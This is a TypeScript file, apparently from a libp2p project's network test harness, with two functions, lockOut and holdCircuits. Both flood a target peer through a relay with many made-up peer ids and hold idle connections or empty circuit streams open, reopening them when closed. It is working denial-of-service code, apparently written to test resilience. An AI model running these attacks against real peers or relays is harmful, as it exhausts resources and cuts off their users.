/** Attacks with circuits: strangers with made-up ids that connect to a peer over its relay and do nothing. */

import { setTimeout as pause } from 'node:timers/promises'
import { connectTo, HOP } from '../../../test/network/hop-client.ts'
import { multiaddr } from '@multiformats/multiaddr'
import { peerIdFromString } from '@libp2p/peer-id'
import { circuitNode, hostileNode } from './hostile-node.ts'

/** Time for one circuit, in milliseconds. */
const DIAL_MS = 15_000

/** Idle connections over circuits, all handshakes finished. They are opened again when the victim closes them. */
export async function lockOut({
  relay,
  target,
  ids,
  each,
  seconds,
}: {
  relay: string
  target: string
  ids: number
  each: number
  seconds: number
}): Promise<number> {
  const endsAt = performance.now() + seconds * 1000
  const circuit = multiaddr(target)
  let opened = 0
  const attack = async (): Promise<void> => {
    const node = await circuitNode()
    try {
      await node.dial(multiaddr(relay), { signal: AbortSignal.timeout(DIAL_MS) })
      const hold = async (): Promise<void> => {
        while (performance.now() < endsAt) {
          const connection = await node
            .dial(circuit, { force: true, signal: AbortSignal.timeout(DIAL_MS) })
            .catch(() => undefined)
          if (connection !== undefined) {
            opened++
            await Promise.race([
              new Promise(resolve => connection.addEventListener('close', resolve, { once: true })),
              pause(Math.max(0, endsAt - performance.now())),
            ])
          }
          await pause(1000)
        }
      }
      await Promise.all(Array.from({ length: each }, hold))
    } finally {
      await node.stop()
    }
  }
  await Promise.allSettled(Array.from({ length: ids }, attack))
  // the handshakes of one connection
  return opened * 1500
}

/** Circuits without any byte on them. */
export async function holdCircuits({
  relay,
  target,
  ids,
  each,
  seconds,
}: {
  relay: string
  target: string
  ids: number
  each: number
  seconds: number
}): Promise<number> {
  const endsAt = performance.now() + seconds * 1000
  const request = connectTo(peerIdFromString(target.split('/').at(-1) ?? ''))
  let opened = 0
  const attack = async (): Promise<void> => {
    const node = await hostileNode()
    try {
      const connection = await node.dial(multiaddr(relay), { signal: AbortSignal.timeout(DIAL_MS) })
      const hold = async (): Promise<void> => {
        while (performance.now() < endsAt && connection.status === 'open') {
          const stream = await connection
            .newStream(HOP, { maxOutboundStreams: Infinity })
            .catch(() => undefined)
          if (stream !== undefined) {
            opened++
            stream.send(request)
            await Promise.race([
              new Promise(resolve => stream.addEventListener('close', resolve, { once: true })),
              pause(Math.max(0, endsAt - performance.now())),
            ])
          }
          await pause(1000)
        }
      }
      await Promise.all(Array.from({ length: each }, hold))
    } finally {
      await node.stop()
    }
  }
  await Promise.allSettled(Array.from({ length: ids }, attack))
  return opened * 150
}
